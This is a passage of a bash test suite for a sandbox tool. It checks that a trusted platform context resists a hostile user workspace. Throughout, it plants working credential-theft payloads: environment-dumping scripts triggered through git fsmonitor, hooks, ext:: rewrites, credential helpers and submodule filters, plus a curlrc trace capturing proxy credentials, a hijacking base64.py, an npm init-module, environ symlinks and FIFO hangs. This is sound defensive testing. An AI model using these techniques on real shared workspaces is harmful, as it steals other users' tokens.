#!/usr/bin/env bash
# A hostile workspace against a platform's credential context (issue #31, docs/CONTEXTS.md
# "Threat model"), with real git and curl in a Debian image the test builds
# ($DEBIAN_TOOLS_IMAGE in lib/image.sh; cached by the rootfs builder after the first build).
# The user (the default context, uid 1000) plants configuration, code and files in the shared
# workspace; a platform context (uid 2000, a token in its --env) then does its ordinary work.
# Every check first shows the attack succeeding against a positive control: an untrusted
# context with the old HOME (`--env HOME=/workspace`, what every context had before), then
# failing against the trusted platform context (`--trusted`), whose ordinary work (git
# status, commit, push of the user's commits to a remote on a --mount, curl to its allowed
# host) still succeeds. Each check removes what it planted.
#   ATTACK_CONTEXTS_BACKENDS="gvisor native" (default: both)
set -u
HERE=$(cd "$(dirname "$0")" && pwd)
# shellcheck source=../integration/lib/image.sh
. "$HERE/../integration/lib/image.sh"
require_root
require_cmds jq python3 curl ip git
[ -x "$SANDSHIM_BIN" ] || skip_all "sandshim binary not built: $SANDSHIM_BIN"
command -v debootstrap >/dev/null || skip_all "no debootstrap (the test image is debootstrap:bookworm+git,curl)"

WORK=$(mktemp -d /tmp/sandshim-attack-ctx.XXXXXX)
chmod 755 "$WORK"
ROOT=$WORK/root
NET=10.218.$(($$ % 250 + 1))
HOSTIP=$NET.1 GOOD=$NET.10
TH=sshim-actx-$$ VETH=sactx$$
install_traps
on_exit 'rm -rf "$WORK"'
on_exit 'ip netns del "$TH" 2>/dev/null; ip link del "$VETH" 2>/dev/null'
on_exit 'kill_procs_naming "$WORK"'
on_exit 'for s in $(S session list --json 2>/dev/null | jq -r ".[].id"); do S session delete "$s" >/dev/null 2>&1; done'
export SANDSHIM_CONFIG=$WORK/config.json
echo "{\"audit_dir\": \"$WORK/audit\"}" >"$SANDSHIM_CONFIG"
S() { "$SANDSHIM_BIN" --root "$ROOT" "$@"; }

log "test image: $DEBIAN_TOOLS_IMAGE (built once, then cached; first build 412 s at load 20 here)"
t0=$(now_ms)
IMAGE=$(S rootfs build "$DEBIAN_TOOLS_IMAGE" 2>"$WORK/image.log") ||
  skip_all "rootfs build failed: $(tail -2 "$WORK/image.log")"
log "image ready in $(( ($(now_ms) - t0) / 1000 )) s: $IMAGE"

# --- good.test: the platform's allowed host (plain HTTP in a namespace of its own) ---------
ip netns add "$TH" || die "ip netns add"
ip link add "$VETH" type veth peer name eth0 netns "$TH" || die "veth"
ip addr add "$HOSTIP/24" dev "$VETH" && ip link set "$VETH" up && ip -n "$TH" addr add "$GOOD/24" dev eth0 &&
  ip -n "$TH" link set eth0 up && ip -n "$TH" link set lo up || die "origin addresses"
mkdir -p "$WORK/origin"
# --directory names $WORK on its command line: kill_procs_naming finds it at exit (it outlived
# the suite without: its cwd was the only trace).
(cd "$WORK/origin" && echo ok >up && exec ip netns exec "$TH" python3 -m http.server --bind "$GOOD" 8080 \
  --directory "$WORK/origin" >"$WORK/origin.log" 2>&1) &
wait_until 10 curl -sf --noproxy '*' "http://$GOOD:8080/up" -o /dev/null || die "good.test not up"

# The platform's token: only in files and in environments, never on a command line.
mkdir -p "$WORK/values" && chmod 700 "$WORK/values"
printf 'canary-platform-%s\n' "$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')" >"$WORK/values/token"
leaked() { grep -qF -f "$WORK/values/token" <<<"$1"; } # TEXT: holds the platform's token

# One session per backend: the user (default context), the trusted platform, and the
# positive control "naive" (the same user and token, untrusted, HOME the workspace as before).
session_for() { # BACKEND: sets SID, WS, REMOTE
  SID=ac-$1-$$ WS=$WORK/ws-$1 REMOTE=$WORK/remote-$1
  [ -e "$WS" ] && return 0
  mkdir -p "$WS" "$REMOTE" && chmod 777 "$WS" "$REMOTE"
  S --backend "$1" session create "$SID" --rootfs "$IMAGE" --workspace "$WS" --mount "$REMOTE:/remote" \
    --network proxy --allow-private --allow-domain good.test --egress-resolve "good.test=$GOOD" >/dev/null ||
    return $(fail "session create ($1)")
  local c
  for c in "platform --trusted" "naive --env HOME=/workspace"; do
    # shellcheck disable=SC2086
    PLATFORM_TOKEN=$(cat "$WORK/values/token") S session context create "$SID" $c --user 2000 --env PLATFORM_TOKEN \
      --allow-domain good.test >/dev/null || return $(fail "context create $c ($1)")
  done
}
ux() { S session exec "$SID" -- sh -c "$1"; }                        # the user (attacker)
px() { S session exec --context platform "$SID" -- sh -c "$1"; }     # the trusted platform
nx() { S session exec --context naive "$SID" -- sh -c "$1"; }        # the positive control
# What the attacker can read afterwards: everything its payloads dropped.
stolen() { ux 'cat /workspace/.p/stolen* /workspace/.p/trace* 2>/dev/null; true'; }
# After each check (host side: files of three users): the workspace and the remote empty again.
clean() { px 'rm -f "$HOME"/creds' 2>/dev/null
  find "$WS" "$REMOTE" -mindepth 1 -delete 2>/dev/null
  local left=$(find "$WS" "$REMOTE" -mindepth 1 | head -5)
  [ -z "$left" ] || fail "left behind: $(echo $left)"; }
# The payload any planted configuration runs: the runner's environment into the workspace.
plant_payload() {
  ux 'mkdir -p /workspace/.p && chmod 777 /workspace/.p && printf "%s\n" "#!/bin/sh" \
    "env > /workspace/.p/stolen.\$(id -u).\$\$ 2>&1; chmod 644 /workspace/.p/stolen.* 2>/dev/null; exit 1" \
    > /workspace/.p/payload.sh && chmod 755 /workspace/.p/payload.sh'
}
user_repo() { ux 'git init -q /workspace/repo && cd /workspace/repo && echo a > a && git add a &&
  git -c user.name=user -c user.email=u@x commit -qm user-commit && chmod -R a+rwX /workspace/repo'; }
with_backend() { # BACKEND CHECK
  session_for "$1" || return
  local rc=0
  "$2" "$1" || rc=$?
  clean || rc=1
  return $rc
}

# 1. ~/.gitconfig planted in the workspace: core.fsmonitor + safe.directory=*, run by git status.
chk_gitconfig() {
  plant_payload && user_repo || return $(fail "plant")
  ux 'printf "[safe]\n\tdirectory = *\n[core]\n\tfsmonitor = /workspace/.p/payload.sh\n" > /workspace/.gitconfig'
  nx 'cd /workspace/repo && git status >/dev/null 2>&1'
  leaked "$(stolen)" || return $(fail "control: the planted fsmonitor did not run in the naive context")
  ux 'rm -f /workspace/.p/stolen*'
  local out
  out=$(px 'cd /workspace/repo && git status --short; echo rc=$?' 2>&1)
  assert_contains "$out" "rc=0" "the trusted platform's git status works on the user's repo" || return
  ! leaked "$(stolen)" || fail "the planted fsmonitor ran as the trusted platform"
}

# 2. .git/hooks/pre-push in the user's repository, run by the platform's push.
chk_hook() {
  plant_payload && user_repo || return $(fail "plant")
  ux 'printf "[safe]\n\tdirectory = *\n" > /workspace/.gitconfig && cp /workspace/.p/payload.sh /workspace/repo/.git/hooks/pre-push'
  px 'git init -q --bare /remote/r.git' || return $(fail "remote")
  nx 'cd /workspace/repo && git push -q /remote/r.git HEAD:refs/heads/naive' >/dev/null 2>&1
  leaked "$(stolen)" || return $(fail "control: the planted pre-push hook did not run in the naive context")
  ux 'rm -f /workspace/.p/stolen*'
  px 'cd /workspace/repo && git -c user.name=p -c user.email=p@x commit -q --allow-empty -m platform-commit &&
      git push -q /remote/r.git HEAD:refs/heads/main' 2>&1 || return $(fail "the trusted platform's commit and push failed")
  assert_contains "$(git -c safe.directory="*" --git-dir="$REMOTE/r.git" log --format=%s main 2>&1)" "user-commit" \
    "the user's commit reached the remote" || return
  ! leaked "$(stolen)" || fail "the planted pre-push hook ran as the trusted platform"
}

# 3. core.fsmonitor appended to a platform-owned --shared repository's .git/config (no HOME needed).
chk_repo_config() {
  plant_payload || return $(fail "plant")
  nx 'git init -q --shared=0777 /workspace/prepo' && px 'git init -q --shared=0777 /workspace/prepo2' ||
    return $(fail "platform repos")
  ux 'for r in prepo prepo2; do printf "[core]\n\tfsmonitor = /workspace/.p/payload.sh\n" >> /workspace/$r/.git/config; done'
  nx 'cd /workspace/prepo && HOME=/tmp git status >/dev/null 2>&1'
  leaked "$(stolen)" || return $(fail "control: the appended fsmonitor did not run in the naive context")
  ux 'rm -f /workspace/.p/stolen*'
  local out
  out=$(px 'cd /workspace/prepo2 && git status 2>&1; echo rc=$?')
  assert_contains "$out" "refusing: the repository's config sets core.fsmonitor" "the wrapper refuses the repository" || return
  # The wrapper bypassed (the real git, the context's environment): the command-line-scope
  # setting still wins over the repository's.
  px 'cd /workspace/prepo2 && /usr/bin/git status >/dev/null 2>&1'
  ! leaked "$(stolen)" || return $(fail "the appended fsmonitor ran as the trusted platform")
  px 'rm -rf /workspace/prepo2'
}

# 3b. Other spellings in the user's repository config: a url rewrite to ext:: (a command),
# a credential helper, an ssh command. The wrapper refuses the repository; the real git
# without the wrapper still runs none of them (protocol list, command-line-scope reset).
chk_repo_spellings() {
  plant_payload && user_repo || return $(fail "plant")
  ux 'printf "[safe]\n\tdirectory = *\n" > /workspace/.gitconfig && cd /workspace/repo &&
      git config url."ext::sh -c /workspace/.p/payload.sh".insteadOf https://git.invalid/ &&
      git config credential.helper "!/workspace/.p/payload.sh" && git config core.sshCommand /workspace/.p/payload.sh'
  nx 'cd /workspace/repo && git push -q ssh://git.invalid/r HEAD:main' >/dev/null 2>&1
  leaked "$(stolen)" || return $(fail "control: the repository's sshCommand did not run in the naive context")
  ux 'rm -f /workspace/.p/stolen*'
  assert_contains "$(px 'cd /workspace/repo && git push -q https://git.invalid/r HEAD:main 2>&1')" "refusing" \
    "the wrapper refuses the repository" || return
  px 'cd /workspace/repo && /usr/bin/git push -q https://git.invalid/r HEAD:main; /usr/bin/git push -q ssh://git.invalid/r HEAD:main' >/dev/null 2>&1
  ! leaked "$(stolen)" || fail "a repository-supplied command ran as the trusted platform"
}

# 4. ~/.curlrc planted in the workspace with trace-ascii: the proxy credentials in a trace.
chk_curlrc() {
  ux 'mkdir -p /workspace/.p && chmod 777 /workspace/.p && printf "trace-ascii = \"/workspace/.p/trace\"\n" > /workspace/.curlrc'
  nx 'umask 022; curl -s -o /dev/null http://good.test:8080/up'
  assert_contains "$(stolen)" "Proxy-Authorization" "control: the naive context's curl wrote the planted trace" || return
  ux 'rm -f /workspace/.p/trace*'
  assert_eq ok "$(px 'umask 022; curl -s http://good.test:8080/up')" "the trusted platform's curl to its allowed host" || return
  assert_not_contains "$(stolen)" "Proxy-Authorization" "no trace of the trusted platform's request"
}

# 5. A 0666 file pre-created where the platform writes its credentials (umask 077).
chk_precreated() {
  ux 'mkdir -p /workspace/.platform && chmod 777 /workspace/.platform && : > /workspace/.platform/creds && chmod 666 /workspace/.platform/creds'
  nx 'umask 077; printf "%s\n" "$PLATFORM_TOKEN" > /workspace/.platform/creds'
  leaked "$(ux 'cat /workspace/.platform/creds')" || return $(fail "control: the pre-created file did not leak")
  # The platform's credentials go to its own home: 0700, its user's, nowhere another context reaches.
  px 'umask 077; printf "%s\n" "$PLATFORM_TOKEN" > "$HOME/creds"' || return $(fail "platform write")
  assert_eq "700 2000 $HOME_DIR" "$(px 'find "$HOME" -maxdepth 0 -printf "%m %U %p"')" \
    "the platform's home" || return
  ! leaked "$(ux "cat $HOME_DIR/creds; ls -la $HOME_DIR; : > $HOME_DIR/creds" 2>&1)" ||
    return $(fail "the user read the platform's credentials")
  leaked "$(px 'cat "$HOME/creds"')" || fail "the platform's file was replaced"
}
HOME_DIR=/home/context

# 6. A symlink to /proc/self/environ that the platform copies out of the workspace.
chk_symlink() {
  ux 'mkdir -p /workspace/results /workspace/artifacts && chmod 777 /workspace/artifacts && ln -s /proc/self/environ /workspace/results/summary.txt &&
      : > /workspace/artifacts/summary.txt && chmod 666 /workspace/artifacts/summary.txt'
  nx 'cp /workspace/results/summary.txt /workspace/artifacts/' 2>/dev/null
  leaked "$(ux 'tr "\0" "\n" < /workspace/artifacts/summary.txt')" || return $(fail "control: the copy did not leak")
  ux ': > /workspace/artifacts/summary.txt'
  # The documented copy: no link followed, no blocking open, a new file renamed into place.
  px 'umask 077; t=$(mktemp /workspace/artifacts/.in.XXXXXX) &&
      { dd if=/workspace/results/summary.txt iflag=nofollow,nonblock status=none > "$t" || rm -f "$t"; } && [ -e "$t" ] &&
      mv -f "$t" /workspace/artifacts/summary.txt' 2>/dev/null
  ! leaked "$(ux 'tr "\0" "\n" < /workspace/artifacts/summary.txt 2>&1; cat /workspace/artifacts/.in.* 2>&1')" ||
    fail "the platform's environ reached the user"
}

# 7. A FIFO where the platform reads: a blocking read hangs it.
chk_fifo() {
  ux 'mkfifo -m 666 /workspace/notes.md'
  if ! px 'test -p /workspace/notes.md'; then
    log "$1: the platform's container does not see another container's FIFO (gVisor): does not apply"
    return 0
  fi
  nx 'timeout 5 cat /workspace/notes.md >/dev/null'
  assert_eq 124 "$?" "control: the naive read hangs" || return
  local t=$(now_ms)
  px 'dd if=/workspace/notes.md iflag=nofollow,nonblock status=none >/dev/null 2>&1; test -p /workspace/notes.md'
  [ $(( $(now_ms) - t )) -lt 4000 ] || fail "the documented read hung"
}

# 8. (F2) python3 with cwd in the workspace: a planted base64.py imported by `python3 -c`.
chk_python() {
  ux 'mkdir -p /workspace/.p && chmod 777 /workspace/.p &&
      printf "%s\n" "import os" "open(\"/workspace/.p/stolen.%d\" % os.getpid(), \"w\").write(str(dict(os.environ)))" > /workspace/base64.py'
  nx 'cd /workspace && python3 -c "import base64"' >/dev/null 2>&1
  leaked "$(stolen)" || return $(fail "control: the planted base64.py was not imported in the naive context")
  ux 'rm -f /workspace/.p/stolen*'
  assert_eq eA== "$(px 'cd /workspace && python3 -c "import base64; print(base64.b64encode(b\"x\").decode())"' 2>&1)" \
    "the trusted platform's python3 -c imports the real base64" || return
  ! leaked "$(stolen)" || fail "the planted base64.py ran as the trusted platform"
}

# 9. (F4) A submodule's own filter driver, run by a nested git of a plain `git status`.
chk_submodule() {
  plant_payload || return $(fail "plant")
  ux 'printf "[safe]\n\tdirectory = *\n" > /workspace/.gitconfig && cd /workspace && git init -q repo && cd repo &&
      git init -q sub && cd sub && echo "* filter=x" > .gitattributes && echo s > s && git add . &&
      git -c user.name=u -c user.email=u@x commit -qm sub && git config filter.x.clean /workspace/.p/payload.sh && cd .. &&
      echo a > a && git add a sub 2>/dev/null && git -c user.name=u -c user.email=u@x commit -qm super &&
      cd sub && echo s3 >> s && rm -f .git/index && git read-tree HEAD && chmod -R a+rwX /workspace/repo' ||
    return $(fail "plant the submodule")
  nx 'cd /workspace/repo && git status --short' >/dev/null 2>&1
  leaked "$(stolen)" || return $(fail "control: the submodule's filter did not run in the naive context")
  ux 'rm -f /workspace/.p/stolen*'
  assert_contains "$(px 'cd /workspace/repo && git status --short 2>&1')" "refusing: the repository's config sets filter.x.clean" \
    "the nested git in the submodule goes through the wrapper" || return
  ! leaked "$(stolen)" || fail "the submodule's filter ran as the trusted platform"
}

# 10. (F1) A local-path remote the user made, with its own hooks: receive-pack's child loses
# GIT_CONFIG_COUNT, so core.hooksPath=/dev/null no longer reached it.
chk_local_remote() {
  plant_payload && user_repo || return $(fail "plant")
  ux 'printf "[safe]\n\tdirectory = *\n" > /workspace/.gitconfig && git init -q --bare /remote/r.git &&
      cp /workspace/.p/payload.sh /remote/r.git/hooks/post-receive && chmod -R a+rwX /remote/r.git' || return $(fail "remote")
  nx 'cd /workspace/repo && git push -q /remote/r.git HEAD:refs/heads/naive' >/dev/null 2>&1
  leaked "$(stolen)" || return $(fail "control: the remote's post-receive hook did not run in the naive context")
  ux 'rm -f /workspace/.p/stolen*'
  px 'cd /workspace/repo && git push -q /remote/r.git HEAD:refs/heads/main' 2>&1 || return $(fail "the trusted platform's push failed")
  assert_contains "$(git -c safe.directory="*" --git-dir="$REMOTE/r.git" log --format=%s main 2>&1)" "user-commit" \
    "the user's commit reached the remote" || return
  ! leaked "$(stolen)" || fail "the remote's hook ran as the trusted platform"
}

# 11. (F5) A .git file in the workspace naming a private repository of the context's own.
chk_gitdir() {
  nx 'rm -rf /tmp/w; mkdir -p /tmp/w && cd /tmp/w && git init -q && echo "key: $PLATFORM_TOKEN" > private.txt && git add . &&
      git -c user.name=p -c user.email=p@x commit -qm private' &&
    px 'mkdir -p ~/w && cd ~/w && git init -q && echo "key: $PLATFORM_TOKEN" > private.txt && git add . &&
      git -c user.name=p -c user.email=p@x commit -qm private' || return $(fail "private repositories")
  ux 'printf "[safe]\n\tdirectory = *\n" > /workspace/.gitconfig && mkdir -p /workspace/rn /workspace/rp && echo "gitdir: /tmp/w/.git" > /workspace/rn/.git &&
      echo "gitdir: /home/context/w/.git" > /workspace/rp/.git && chmod -R a+rwX /workspace/rn /workspace/rp'
  nx 'cd /workspace/rn && git checkout -q -- .' >/dev/null 2>&1
  leaked "$(ux 'cat /workspace/rn/private.txt 2>&1')" || return $(fail "control: the naive context's checkout did not write its private file")
  assert_contains "$(px 'cd /workspace/rp && git checkout -q -- . 2>&1')" "in another trust zone" "the wrapper refuses" || return
  ! leaked "$(ux 'cat /workspace/rp/private.txt 2>&1')" || return $(fail "the platform's private file reached the workspace")
  px 'rm -rf ~/w'
}

# 12. (F3) Symlinks in the user's .git/ where git writes: COMMIT_EDITMSG into the context's own files.
chk_gitlinks() {
  user_repo || return $(fail "plant")
  ux 'printf "[safe]\n\tdirectory = *\n" > /workspace/.gitconfig && ln -sfn /tmp/victim /workspace/repo/.git/COMMIT_EDITMSG'
  nx 'cd /workspace/repo && git -c user.name=p -c user.email=p@x commit -q --allow-empty -m planted-write' >/dev/null 2>&1
  assert_contains "$(nx 'cat /tmp/victim 2>&1; rm -f /tmp/victim')" planted-write \
    "control: the naive context's commit wrote through the link into its own /tmp" || return
  ux 'ln -sfn /home/context/.gitconfig /workspace/repo/.git/COMMIT_EDITMSG'
  assert_contains "$(px 'cd /workspace/repo && git -c user.name=p -c user.email=p@x commit -q --allow-empty -m planted-write 2>&1')" \
    "COMMIT_EDITMSG is not a regular file" "the wrapper refuses the link" || return
  assert_eq absent "$(px 'test -e ~/.gitconfig && echo present || echo absent')" "nothing written in the platform's home" || return
  # The context's own ~/.gitconfig (a second line of defence): no include, no driver.
  assert_contains "$(px 'printf "[include]\n\tpath = /workspace/x\n" > ~/.gitconfig; cd /workspace && git status 2>&1; rm -f ~/.gitconfig')" \
    ".gitconfig sets include.path" "the wrapper checks the global scope"
}

# 13. (F7) A FIFO as the repository's include.path: the wrapper's own config listing hung.
chk_fifo_include() {
  user_repo || return $(fail "plant")
  ux 'printf "[safe]\n\tdirectory = *\n" > /workspace/.gitconfig && mkfifo -m 666 /workspace/fifo &&
      printf "[include]\n\tpath = /workspace/fifo\n" >> /workspace/repo/.git/config'
  if ! px 'test -p /workspace/fifo'; then
    log "$1: the platform's container does not see another container's FIFO (gVisor): does not apply"
    return 0
  fi
  nx 'cd /workspace/repo && timeout 5 git status >/dev/null 2>&1'
  assert_eq 124 "$?" "control: the naive git status hangs" || return
  local t=$(now_ms) out
  out=$(px 'cd /workspace/repo && timeout 10 git status 2>&1')
  assert_contains "$out" "sets include.path" "the wrapper refuses before opening the FIFO" || return
  [ $(( $(now_ms) - t )) -lt 5000 ] || fail "the trusted git status took $(( $(now_ms) - t )) ms"
}

# 14. (F6) The platform's orchestrator SIGKILLs a `session exec` that overran its deadline:
# what the exec started must not go on as the platform. Control: --keep (asked to outlive).
# native: a parent-death signal in the forked exec; gVisor: the client in the sandbox holds a
# lifeline pipe whose only writer was the killed CLI. With --keep, the command itself ends
# too (its `sleep 1001`), on both backends; only what it started in the background stays.
# Control for the probe of what is left: --keep's background process, asked to outlive the
# exec, shows in `context ps` (sleep 1003), its command (sleep 1001) does not.
chk_client_killed() {
  local cmd keep n ps
  for keep in --keep ""; do
    n=1000 && [ -n "$keep" ] && n=1001
    cmd='sh -c "sleep 4; echo \$PLATFORM_TOKEN > /workspace/late.\$\$; exec sleep 1003" & exec sleep '$n
    # shellcheck disable=SC2086
    timeout -s KILL 2 "$SANDSHIM_BIN" --root "$ROOT" session exec --context platform $keep "$SID" -- sh -c "$cmd" >/dev/null 2>&1
    sleep 5
    if [ -n "$keep" ]; then
      leaked "$(ux 'cat /workspace/late.* 2>/dev/null; true')" ||
        return $(fail "control: with --keep the background process did not outlive the killed client")
      ux 'rm -f /workspace/late.*'
      # (context ps shows the command's name on gVisor, its command line on native, whose
      # context init has a `sleep 3600` of its own: which sleep is which, from inside)
      assert_eq 1 "$(S session context ps "$SID" platform 2>&1 | grep -cE '(sleep|sleep 1003)$')" \
        "control: --keep's background process shows in context ps" || return
      assert_eq "sleep 1003 " "$(px 'for p in /proc/[0-9]*; do tr "\\0" " " < $p/cmdline 2>/dev/null; echo; done' | grep '^sleep 100')" \
        "--keep's command (sleep 1001) ended with its killed caller, its background process (sleep 1003) did not" || return
      px 'for p in /proc/[0-9]*; do [ "$(tr "\\0" " " < $p/cmdline 2>/dev/null)" = "sleep 1003 " ] && kill ${p#/proc/}; done; true'
    else
      ! leaked "$(ux 'cat /workspace/late.* 2>/dev/null; true')" || return $(fail "the killed client's exec went on as the platform")
    fi
  done
  assert_eq 0 "$(S session context ps "$SID" platform 2>&1 | grep -cE '(sleep|sleep 100[0-3])$')" \
    "nothing of the killed execs left in the platform context (--keep's command included)"
}

# 15. A FIFO where git reads first: .git/config, .git/HEAD, a .gitignore in the work tree,
# packed-refs under a clone of the repository (its upload-pack).
# git opens them blocking, so the platform's git (and the wrapper's own checks) waited for a
# writer that never comes. gVisor: another container's FIFO is not visible (does not apply).
chk_git_fifo() {
  user_repo || return $(fail "plant")
  ux 'printf "[safe]\n\tdirectory = *\n" > /workspace/.gitconfig && mkfifo -m 666 /workspace/fifo'
  if ! px 'test -p /workspace/fifo'; then
    log "$1: the platform's container does not see another container's FIFO (gVisor): does not apply"
    return 0
  fi
  local f out t
  for f in .git/config .git/HEAD sub/.gitignore; do
    ux "cd /workspace/repo && mkdir -p sub && mv -f $f $f.real 2>/dev/null; mkfifo -m 666 $f"
    nx 'cd /workspace/repo && timeout 5 git status >/dev/null 2>&1'
    assert_eq 124 "$?" "control: the naive git status hangs on a FIFO at $f" || return
    t=$(now_ms)
    out=$(px 'cd /workspace/repo && timeout 10 git status 2>&1')
    assert_contains "$out" "$f is not a regular file" "the wrapper refuses a FIFO at $f before git opens it" || return
    [ $(( $(now_ms) - t )) -lt 5000 ] || return $(fail "the trusted git status took $(( $(now_ms) - t )) ms")
    ux "cd /workspace/repo && rm -f $f && { [ ! -e $f.real ] || mv $f.real $f; }"
  done
  # From inside a linked directory: git finds the repository above the link's target, not
  # above the link (a walk over the logical path missed it).
  ux 'mkdir -p /workspace/x/y && cd /workspace/x && git init -q . && ln -s /workspace/x/y /workspace/lk &&
      mv .git/config .git/config.real && mkfifo -m 666 .git/config && chmod -R a+rwX /workspace/x'
  nx 'cd /workspace/lk && timeout 5 git status >/dev/null 2>&1'
  assert_eq 124 "$?" "control: the naive git status in a linked directory hangs" || return
  assert_contains "$(px 'cd /workspace/lk && timeout 10 git status 2>&1')" "/workspace/x/.git/config is not a regular file" \
    "the wrapper finds the repository as git does (physical path)" || return
  ux 'rm -rf /workspace/x /workspace/lk'
  # A loose object: git opens it to read it (objects are checked too, not only the names).
  ux 'cd /workspace/repo && o=$(find .git/objects -type f -path "*/objects/??/*" | head -1) && mv "$o" /workspace/obj.real &&
      mkfifo -m 666 "$o" && echo "$o" > /workspace/obj.path'
  nx 'cd /workspace/repo && timeout 5 git log -p >/dev/null 2>&1'
  assert_eq 124 "$?" "control: the naive git log -p hangs on a FIFO loose object" || return
  assert_contains "$(px 'cd /workspace/repo && timeout 10 git log -p 2>&1')" "is not a regular file" \
    "the wrapper refuses a FIFO loose object" || return
  ux 'cd /workspace/repo && o=$(cat /workspace/obj.path) && rm -f "$o" && mv /workspace/obj.real "$o" && rm -f /workspace/obj.path'
  # The documented copy (pattern 1): upload-pack in the user's repository reads packed-refs.
  ux 'mkfifo -m 666 /workspace/repo/.git/packed-refs'
  nx 'rm -rf /tmp/c; timeout 5 git clone -q --no-local /workspace/repo /tmp/c >/dev/null 2>&1'
  assert_eq 124 "$?" "control: the naive clone of the repository hangs on a FIFO packed-refs" || return
  t=$(now_ms)
  out=$(px 'rm -rf ~/c; timeout 10 git clone -q --no-local /workspace/repo ~/c 2>&1; rm -rf ~/c')
  assert_contains "$out" "packed-refs is not a regular file" "the clone's upload-pack refuses it" || return
  [ $(( $(now_ms) - t )) -lt 5000 ] || return $(fail "the trusted clone took $(( $(now_ms) - t )) ms")
  ux 'rm -f /workspace/repo/.git/packed-refs'
  assert_contains "$(px 'cd /workspace/repo && git status --short; echo rc=$?' 2>&1)" "rc=0" "the platform's git status works again"
}

# 16. A FIFO where the platform reads or writes through `session files` (host side: the
# caller waited for good). gVisor 2022: the files tool's container does not see the user's
# FIFO (does not apply); 2024's does.
chk_files_fifo() {
  ux 'mkfifo -m 666 /workspace/out.txt'
  if ! S session files ls "$SID" /workspace/out.txt 2>/dev/null | grep -q fifo; then
    log "$1: the files tool's container does not see the user's FIFO (gVisor): does not apply"
    return 0
  fi
  ux 'timeout 5 cat /workspace/out.txt >/dev/null'  # (in its maker's view: gVisor 2024's files tool sees it, another context may not)
  assert_eq 124 "$?" "control: a read of the FIFO hangs" || return
  local err rc=0
  err=$(timeout 10 "$SANDSHIM_BIN" --root "$ROOT" session files read "$SID" /workspace/out.txt 2>&1 >/dev/null) || rc=$?
  assert_contains "$rc:$err" "1:" "files read fails at once (not the deadline's 124)" &&
    assert_contains "$err" "not a regular file" "files read says why" || return
  rc=0
  err=$(echo data | timeout 10 "$SANDSHIM_BIN" --root "$ROOT" session files write "$SID" /workspace/out.txt 2>&1 >/dev/null) || rc=$?
  assert_contains "$rc:$err" "1:" "files write fails at once" && assert_contains "$err" "not a regular file" "files write says why"
}

# 17. npm: a project's .npmrc names init-module (code `npm init` require()s) and cache (where
# npm writes, logs included). npm is not in the test image (debootstrap cannot resolve
# bookworm's npm): the host's node and npm, bound read-only, where they run in the image (a
# node linked against glibc alone, as nodesource's); otherwise skipped.
chk_npm() {
  local npmdir
  npmdir=$(dirname "$(dirname "$(readlink -f "$(command -v npm 2>/dev/null || echo /nonexistent/x/y)")")")
  if ! command -v node >/dev/null || [ ! -f "$npmdir/bin/npm-cli.js" ]; then log "$1: no node and npm on the host: skipped"; return 0; fi
  local nsid=acn-$1-$$ nws=$WORK/nws-$1 nb=$WORK/nodebin
  mkdir -p "$nws" "$nb" && chmod 777 "$nws" && { [ -x "$nb/node" ] || cp "$(readlink -f "$(command -v node)")" "$nb/node"; } &&
    printf '#!/bin/sh\nexec /opt/nodebin/node /opt/npm/bin/npm-cli.js "$@"\n' >"$nb/npm" && chmod 755 "$nb/npm" "$nb" || return $(fail "node dir")
  S --backend "$1" session create "$nsid" --rootfs "$IMAGE" --workspace "$nws" --network none \
    --mount "$nb:/opt/nodebin:ro" --mount "$npmdir:/opt/npm:ro" >/dev/null || return $(fail "npm session")
  local c
  for c in "platform --trusted" "naive --env HOME=/workspace"; do
    # shellcheck disable=SC2086
    PLATFORM_TOKEN=$(cat "$WORK/values/token") S session context create "$nsid" $c --user 2000 --env PLATFORM_TOKEN >/dev/null ||
      return $(fail "npm context $c")
  done
  if ! S session exec --context platform "$nsid" -- /opt/nodebin/node --version >/dev/null 2>&1; then
    log "$1: the host's node does not run in the image: skipped"; S session delete "$nsid" >/dev/null 2>&1; rm -rf "$nws"; return 0
  fi
  S session exec "$nsid" -- sh -c 'mkdir -p /workspace/proj /workspace/.p && chmod 777 /workspace/proj /workspace/.p &&
    printf "%s\n" "require(\"fs\").writeFileSync(\"/workspace/.p/stolen.\" + process.pid, JSON.stringify(process.env)); module.exports = {name: \"x\"}" > /workspace/.p/init.js &&
    printf "init-module=/workspace/.p/init.js\ncache=/workspace/.p/cache\n" > /workspace/proj/.npmrc && chmod -R a+rwX /workspace/proj /workspace/.p'
  # (read host side: gVisor's view of a directory another container just made can fail EINVAL)
  nst() { cat "$nws"/.p/stolen.* 2>/dev/null; ls -d "$nws/.p/cache/_logs" 2>/dev/null; true; }
  local got out
  S session exec --context naive "$nsid" -- sh -c 'cd /workspace/proj && /opt/nodebin/npm init -y >/dev/null 2>&1; rm -f package.json'
  got=$(nst)
  if ! leaked "$got" || [[ $got != *cache/_logs* ]]; then
    S session delete "$nsid" >/dev/null 2>&1; rm -rf "$nws"
    return $(fail "control: the naive npm did not run the project's init-module or write into its cache ($got)")
  fi
  rm -rf "$nws"/.p/stolen.* "$nws/.p/cache"
  out=$(S session exec --context platform "$nsid" -- sh -c 'cd /workspace/proj && /opt/nodebin/npm init -y >/dev/null 2>&1; echo init=$?;
    grep -c "\"name\": \"proj\"" package.json; rm -f package.json; ls -d ~/.npm/_logs' 2>&1)
  got=$(nst)
  S session delete "$nsid" >/dev/null 2>&1; rm -rf "$nws"
  assert_contains "$out" "init=0" "the trusted platform's npm init works" &&
    assert_contains "$out" "/home/context/.npm/_logs" "its logs go to its own cache" || return
  ! leaked "$got" || return $(fail "the project's init-module ran as the trusted platform")
  assert_not_contains "$got" "_logs" "nothing written under the project's cache"
}

# What every context's identity is: its own HOME, nowhere in the workspace.
chk_home() {
  assert_eq "$HOME_DIR" "$(px 'echo $HOME')" "the platform's HOME" || return
  px 'echo mine > "$HOME/.netrc"' || return $(fail "platform writes its home")
  assert_eq mine "$(px 'cat "$HOME/.netrc"')" "control: the platform reads its own home" || return
  assert_not_contains "$(ux "cat $HOME_DIR/.netrc 2>&1; echo > $HOME_DIR/.netrc 2>&1")" mine "the user reads the platform's home" || return
  assert_eq mine "$(px 'cat "$HOME/.netrc"; rm -f "$HOME/.netrc"')" "the platform's file unchanged"
}

# shellcheck source=contexts_ipc_checks.sh
. "$HERE/contexts_ipc_checks.sh"
# shellcheck source=contexts_git_checks.sh
. "$HERE/contexts_git_checks.sh"
backends=${ATTACK_CONTEXTS_BACKENDS:-gvisor native}
for be in $backends; do
  run_check "contexts on $be: a context's HOME is its own" with_backend "$be" chk_home
